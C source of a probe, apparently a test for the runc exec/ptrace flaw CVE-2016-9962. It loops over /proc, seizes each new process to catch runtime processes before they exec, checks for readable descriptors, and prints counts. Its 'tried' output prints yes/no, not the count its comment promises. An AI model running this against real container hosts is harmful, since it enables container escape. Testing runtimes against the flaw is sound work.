/*
 * seizer attaches to every process that appears in its pid namespace (CVE-2016-9962):
 * exec brings one in that is still the runtime's. Until SIGTERM; then it says how many
 * it tried, how many it had before they executed their program, and of how many it
 * could read the descriptors or the executable by then.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#define STAGE "rt-init" /* part of the name of the runtime's program */

static volatile sig_atomic_t stop;
static long tried, seized, peeked;
static char seen[1 << 22]; /* by pid */

static void on_term(int sig)
{
	stop = sig;
}

/* A process whose executable can be read and is the runtime's has let us in. */
static int is_stage(int pid)
{
	char path[64], exe[256];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, exe, sizeof(exe) - 1);
	if (n < 0)
		return 0;
	exe[n] = 0;
	return strstr(exe, STAGE) != NULL;
}

static int has_open_fds(int pid)
{
	char path[64];
	struct dirent *e;
	int n = 0;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	d = opendir(path);
	while (d && (e = readdir(d)))
		n++;
	if (d)
		closedir(d);
	return n > 2;
}

static void attack(int pid)
{
	int status;

	tried++;
	if (has_open_fds(pid) && is_stage(pid))
		peeked++;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;
	/* Where it stops it cannot become another program meanwhile. */
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) && is_stage(pid))
		seized++;
	ptrace(PTRACE_DETACH, pid, 0, 0);
	seen[pid] = 1;
}

int main(void)
{
	printf("seizing\n");
	fflush(stdout);
	signal(SIGTERM, on_term);
	while (!stop) {
		struct dirent *e;
		DIR *d = opendir("/proc");

		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);

			if (pid > 0 && pid != getpid() && pid < (int)sizeof(seen) && !seen[pid])
				attack(pid);
		}
		if (d)
			closedir(d);
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
	}
	printf("seizer tried=%s seized=%ld peeked=%ld\n", tried > 0 ? "yes" : "no", seized, peeked);
	return 0;
}
